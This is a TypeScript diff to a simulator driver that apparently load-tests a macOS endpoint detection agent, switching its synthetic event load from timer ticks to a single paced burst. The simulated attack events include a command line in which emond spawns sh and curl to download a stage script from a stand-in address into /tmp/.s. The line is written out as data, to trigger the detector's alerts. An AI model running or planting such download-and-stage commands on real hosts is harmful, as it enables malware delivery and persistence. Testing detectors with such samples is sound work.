@@ -26,13 +26,10 @@ export const SIMULATED_PROCESSES = [
 /** Replay keeps at most this many messages injected but not yet delivered, so it never overflows the queue. */
 const REPLAY_IN_FLIGHT = 4096;
 const REPLAY_MAX_WAIT_MS = 2000;
-const LOAD_TICK_MS = 100;
 
 export class SimulatorDriver {
-  private timers: NodeJS.Timeout[] = [];
   private stopped = false;
-  private chain = 0;
-  /** Messages handed to the simulator. */
+  /** Replayed messages handed to the simulator (the synthetic load is not counted: it has no end). */
   injected = 0;
 
   constructor(
@@ -60,10 +57,9 @@ export class SimulatorDriver {
     return true;
   }
 
+  /** Ends the replay; the load's burst ends with the client (the source's stop). */
   stop(): void {
     this.stopped = true;
-    for (const timer of this.timers) clearInterval(timer);
-    this.timers = [];
   }
 
   private async replay(file: string): Promise<void> {
@@ -86,31 +82,19 @@ export class SimulatorDriver {
     }
   }
 
+  /**
+   * One paced burst the simulator's own thread works through — ordinary execs with an emond chain
+   * every `emondChainEverySeconds` — stamped with the time of each delivery. Nothing of the load
+   * runs on the JavaScript thread, so the agent's CPU is measured without the generator's.
+   */
   private startLoad(load: NonNullable<SimulationPlan['load']>): void {
-    const perTick = Math.max(1, Math.round((load.execPerSecond * LOAD_TICK_MS) / 1000));
-    const chainEvery = Math.max(1, Math.round((load.emondChainEverySeconds * 1000) / LOAD_TICK_MS));
-    let tick = 0;
-    const timer = setInterval(() => {
-      if (this.stopped) return;
-      const time = nowSpec();
-      // The chain first: the simulator works through its queue in order, and a chain queued behind
-      // this tick's paced burst would wait up to a tick, which is the simulator's delay, not ours.
-      if (++tick % chainEvery === 0) {
-        const chain = emondChain(this.chain++).map((message) => ({ ...message, time }));
-        this.sim.inject(chain);
-        this.injected += chain.length;
-      }
-      this.sim.burst({ message: { ...ordinaryExec(), time }, count: perTick, ratePerSecond: load.execPerSecond });
-      this.injected += perTick;
-    }, LOAD_TICK_MS);
-    this.timers.push(timer);
+    const chain = emondChain();
+    const ordinaryPerChain = Math.max(1, Math.round(load.execPerSecond * load.emondChainEverySeconds) - chain.length);
+    const pattern = [{ message: ordinaryExec(), repeat: ordinaryPerChain }, ...chain.map((message) => ({ message, repeat: 1 }))];
+    // A day of load; stop() ends it sooner.
+    const count = Math.round(load.execPerSecond * 86_400);
+    this.sim.burst({ pattern, count, ratePerSecond: load.execPerSecond, stampNow: true });
   }
-}
-
-/** Now, as an ES message time. */
-function nowSpec(): { sec: number; nsec: number } {
-  const ms = Date.now();
-  return { sec: Math.floor(ms / 1000), nsec: (ms % 1000) * 1e6 };
 }
 
 /** A developer's shell running git: the bulk of the load, never an alert. */
@@ -129,9 +113,9 @@ function ordinaryExec(): SimMessageSpec {
  * emond running an attacker's rule action: it forks, the child execs `sh -c`, the shell execs curl
  * in place (still emond's child), and exits. Two alerts each time (sh and curl).
  */
-function emondChain(n: number): SimMessageSpec[] {
-  const pid = 30_000 + (n % 20_000);
-  const version = 100_000 + n * 4;
+function emondChain(): SimMessageSpec[] {
+  const pid = 30_000;
+  const version = 100_000;
   const emond = { pid: 118, pidversion: 118 };
   const child = { pid, ppid: 118, parent: emond };
   return [
@@ -141,14 +125,14 @@ function emondChain(n: number): SimMessageSpec[] {
       version: 7,
       process: { ...child, pidversion: version, executable: '/sbin/emond' },
       target: { ...child, pidversion: version + 1, executable: '/bin/sh' },
-      args: ['sh', '-c', `curl -fsS http://203.0.113.7/stage${n}.sh -o /tmp/.s`],
+      args: ['sh', '-c', 'curl -fsS http://203.0.113.7/stage.sh -o /tmp/.s'],
     },
     {
       type: 'exec',
       version: 7,
       process: { ...child, pidversion: version + 1, executable: '/bin/sh' },
       target: { ...child, pidversion: version + 2, executable: '/usr/bin/curl' },
-      args: ['curl', '-fsS', `http://203.0.113.7/stage${n}.sh`, '-o', '/tmp/.s'],
+      args: ['curl', '-fsS', 'http://203.0.113.7/stage.sh', '-o', '/tmp/.s'],
     },
     { type: 'exit', version: 7, process: { ...child, pidversion: version + 2, executable: '/usr/bin/curl' }, exitStatus: 0 },
   ];
